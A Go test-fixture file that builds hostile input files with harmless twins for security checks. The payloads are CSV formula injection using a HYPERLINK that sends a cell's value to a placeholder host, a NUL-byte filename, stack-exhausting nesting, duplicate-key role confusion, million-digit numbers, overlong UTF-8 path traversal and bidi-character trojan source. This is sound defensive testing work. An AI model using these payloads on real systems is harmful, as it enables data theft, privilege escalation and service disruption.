package hostile

import (
	"bytes"
	"encoding/csv"
	"strings"
)

// dataCases returns files of records and text.
func dataCases() []Case {
	return []Case{
		formula("csv-formula-equals", "Formula with an equals sign", "an equals sign", "="+link, "a = b"),
		formula("csv-formula-plus", "Formula with a plus sign", "a plus sign", "+"+link, "+7.5"),
		formula("csv-formula-minus", "Formula with a minus sign", "a minus sign", "-1&"+link, "-7.5"),
		formula("csv-formula-at", "Formula with an at sign", "an at sign", "@"+link, "a@placeholder.invalid"),
		formula("csv-formula-tab", "Formula after a tab", "a tab and an equals sign", "\t="+link, "a\t= b"),
		formula("csv-formula-return", "Formula after a carriage return", "a carriage return and an equals sign", "\r="+link, "a\r= b"),
		{Info{
			Token: "csv-nul", Format: "csv", Title: "NUL byte in a value", Verdict: Reject, CWE: 158,
			Attack:   "A value has a NUL byte before an allowed extension. Programs in C end the value at the NUL byte.",
			Failure:  "The list of attachments names placeholder.php, or has a NUL byte.",
			Harmless: "The value has two extensions and no NUL byte.",
		}, nulCSV},
		{Info{
			Token: "json-deep", Format: "json", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
			Attack:   "Arrays are nested 100,000 deep, to exhaust the stack of a recursive parser.",
			Failure:  "The process crashes, or the request fails with an internal error.",
			Harmless: "Arrays are nested 32 deep.",
		}, func(twin bool) []byte { return nested(twin, "[", "1", "]") }},
		{Info{
			Token: "json-duplicate-keys", Format: "json", Title: "Duplicate keys", Verdict: Reject, CWE: 436,
			Attack:   "A key occurs twice. A check that reads the first value does not see the last one, which another program uses.",
			Failure:  "The check sees the role user, and the record is stored with the role admin.",
			Harmless: "The key occurs again in an object within the other.",
		}, duplicateKeysJSON},
		{Info{
			Token: "json-long-number", Format: "json", Title: "Number of a million digits", Verdict: Reject, CWE: 407,
			Attack:   "A number has 1,000,000 digits. The time to convert it grows with the square of its length.",
			Failure:  "The request takes seconds of CPU time.",
			Harmless: "The number has 15 digits.",
		}, longNumberJSON},
		{Info{
			Token: "xml-deep", Format: "xml", Title: "Deeply nested elements", Verdict: Reject, CWE: 674,
			Attack:   "Elements are nested 100,000 deep, to exhaust the stack of a recursive parser.",
			Failure:  "The process crashes, or the request fails with an internal error.",
			Harmless: "Elements are nested 32 deep.",
		}, func(twin bool) []byte { return nested(twin, "<a>", "1", "</a>") }},
		{Info{
			Token: "text-invalid-utf8", Format: "txt", Title: "Invalid UTF-8", Verdict: Reject, CWE: 176,
			Attack:   "Invalid UTF-8 becomes ../ if a lenient decoder reads it after the path was checked.",
			Failure:  "The decoded text contains ../, or text that is not UTF-8 is stored.",
			Harmless: "The text has characters of two, three and four bytes.",
		}, invalidUTF8},
		{Info{
			Token: "text-bidi", Format: "txt", Title: "Bidirectional control characters", Verdict: Sanitize, CWE: 451,
			Attack:   "Bidirectional control characters make a return statement look like part of a comment.",
			Failure:  "The characters are shown in another order than they are stored.",
			Harmless: "The comment has Hebrew letters and no control characters.",
		}, bidiText},
	}
}

// link is a formula that shows the marker.
const link = `HYPERLINK("http://placeholder.invalid/?"&A2,"` + Marker + `")`

// formula returns a case of a table with a value that a spreadsheet may take for a formula (CSV Injection by OWASP). Its twin
// has a value with the same characters that is text or a number.
func formula(token, title, first, value, harmless string) Case {
	return Case{Info{
		Token: token, Format: "csv", Title: title, Verdict: Sanitize, CWE: 1236, ASVS: "1.2.10",
		Attack:   "A value starts with " + first + ", so a spreadsheet may read it as a formula: a link that sends another cell to a host.",
		Failure:  "A spreadsheet shows " + Marker + " instead of the text of the formula.",
		Harmless: "The value has the same characters, and is text or a number.",
	}, func(twin bool) []byte {
		return csvOf([][]string{{"id", "comment"}, {"1", either(twin, harmless, value)}})
	}}
}

// csvOf returns a table with CRLF at the end of lines (RFC 4180).
func csvOf(rows [][]string) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.WriteAll(rows) // a Buffer returns no error
	return bytes.ReplaceAll(b.Bytes(), []byte("\n"), []byte("\r\n"))
}

func nulCSV(twin bool) []byte {
	return csvOf([][]string{{"id", "attachment"}, {"1", either(twin, "placeholder.draft.jpg", "placeholder.php\x00.jpg")}})
}

// nested returns as many openings as closings, around a content. Libraries accept at least 250.
func nested(twin bool, opening, content, closing string) []byte {
	depth := either(twin, 32, 100_000)
	return []byte(strings.Repeat(opening, depth) + content + strings.Repeat(closing, depth) + "\n")
}

func duplicateKeysJSON(twin bool) []byte {
	again := either(twin, `"team": {"role": "admin"}`, `"role": "admin"`)
	return []byte(`{"name": "placeholder", "role": "user", ` + again + "}\n")
}

func longNumberJSON(twin bool) []byte {
	digits := either(twin, 15, 1_000_000) // a float64 can represent 15 digits exactly
	return []byte(`{"amount": ` + strings.Repeat("7", digits) + "}\n")
}

// invalidUTF8 returns lines of text. Each line of the attack has bytes that are not valid in
// UTF-8: overlong forms of a dot and a slash, a surrogate, a character above the last one, a
// continuation byte, and the beginning of a character.
func invalidUTF8(twin bool) []byte {
	lines := "path \xc0\xae\xc0\xae\xc0\xaf" + Canary + "\nsurrogate \xed\xa0\x80\nbeyond \xf4\x90\x80\x80\ncontinuation \x80\nbeginning \xe2\x82\n"
	return []byte(either(twin, "path ··· "+Canary+"\nsurrogate 𐀀\nbeyond \U0010ffff\ncontinuation é\nbeginning €\n", lines))
}

// bidiText returns the source of a function in Python. In the attack, an isolate from right to
// left shows the end of the comment and the statement after it as text of the comment. The twin
// has a comment in Hebrew, which needs no control characters.
func bidiText(twin bool) []byte {
	comment := either(twin, `"""Withdraw an amount, משיכה."""; amount += 0`, `"""Withdraw an amount, then `+"\u2067"+`"""; return`)
	return []byte("def withdraw(account, amount):\n    " + comment + "\n    account.balance -= amount\n")
}
